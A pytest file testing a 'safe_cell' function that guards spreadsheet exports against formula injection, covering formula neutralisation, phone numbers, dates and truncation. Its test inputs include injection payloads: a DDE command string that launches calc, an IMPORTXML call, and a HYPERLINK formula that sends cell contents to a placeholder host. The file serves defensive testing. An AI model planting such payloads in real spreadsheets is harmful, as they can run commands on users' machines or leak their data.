import math

import pytest

from wa_pipeline.sheets.cell_safety import MAX_CELL_CHARS, safe_cell


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1-A1", "+A1", "-SUM(A1)", "@SUM(A1)", "\tcmd", "\rcmd", '=IMPORTXML("http://x","//a")']
)
def test_text_that_would_evaluate_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["hello", "", "1+1", " =1", "'already text", "email@example.com", "✓ ok"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


@pytest.mark.parametrize("value", [0, 42, -7, 3.5, -0.25, True, False])
def test_numbers_and_booleans_pass_through(value):
    result = safe_cell(value)
    assert result == value and type(result) is type(value)


def test_numbers_that_json_cannot_carry_become_empty():
    assert safe_cell(math.nan) == ""
    assert safe_cell(math.inf) == ""


def test_long_text_is_cut_to_the_limit_with_a_visible_marker():
    text = "x" * 60_000
    cell = safe_cell(text)
    assert len(cell) == MAX_CELL_CHARS
    kept = cell.index("…")
    assert cell.endswith(f"…[truncated {60_000 - kept} chars]")
    assert cell[:kept] == text[:kept]


def test_text_at_the_limit_is_kept_whole():
    assert safe_cell("y" * MAX_CELL_CHARS) == "y" * MAX_CELL_CHARS


def test_neutralised_long_text_still_fits():
    cell = safe_cell("=" + "z" * 80_000)
    assert cell.startswith("'=") and len(cell) <= MAX_CELL_CHARS and "[truncated" in cell


def test_a_smaller_limit_can_be_asked_for():
    cell = safe_cell("a" * 40_000, limit=32_767)
    assert len(cell) == 32_767 and cell.endswith(f"[truncated {40_000 - cell.index('…')} chars]")


def test_other_values_become_text():
    from datetime import time

    assert safe_cell(time(9, 30)) == "09:30:00"
    assert safe_cell(["-x"]) == "['-x']"


def test_dates_stay_dates_in_local_wall_time_to_the_second():
    from datetime import UTC, date, datetime

    import pandas as pd

    assert safe_cell(date(2024, 5, 1)) == date(2024, 5, 1)
    assert safe_cell(datetime(2024, 5, 1, 9, 30, 5, 700, tzinfo=UTC)) == datetime(2024, 5, 1, 9, 30, 5)
    moment = safe_cell(pd.Timestamp("2024-05-01 09:30"))
    assert type(moment) is datetime and moment == datetime(2024, 5, 1, 9, 30)
    assert safe_cell(pd.NaT) == ""


def test_plain_signed_numbers_and_phones_stay_readable_but_expressions_do_not():
    assert safe_cell("+254712345678") == "+254712345678"
    assert safe_cell("+254712345678; +254722123456") == "+254712345678; +254722123456"
    assert safe_cell("-500") == "-500"
    assert safe_cell("+1 (555) 010-0000") == "+1 (555) 010-0000"
    assert safe_cell("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("- 2 loaves") == "'- 2 loaves"


@pytest.mark.parametrize(
    "text",
    [
        "+254 712 345 678; Juma",
        "+254 712 345 678, Juma",
        "+254 712 345 678; Wanjirũ O'Neil-Kamau 🌸; +255 713 000 111",
        "-500, Juma_Shop",
    ],
)
def test_a_list_of_a_number_and_names_is_shown_as_typed(text):
    # A thread's participants: an unsaved number first, then names. Nothing in it can call or reference anything.
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"Juma")',
        '+254 712 345 678; =HYPERLINK("http://x.example")',
        "+254 712 345 678; cmd|' /C calc'!A0",
        "-1, SUM(A1:A9)",
        "+1, A1:B2",
        "+254 712; Juma\nline",
    ],
)
def test_a_list_that_could_call_or_reference_is_still_neutralised(text):
    assert safe_cell(text) == "'" + text
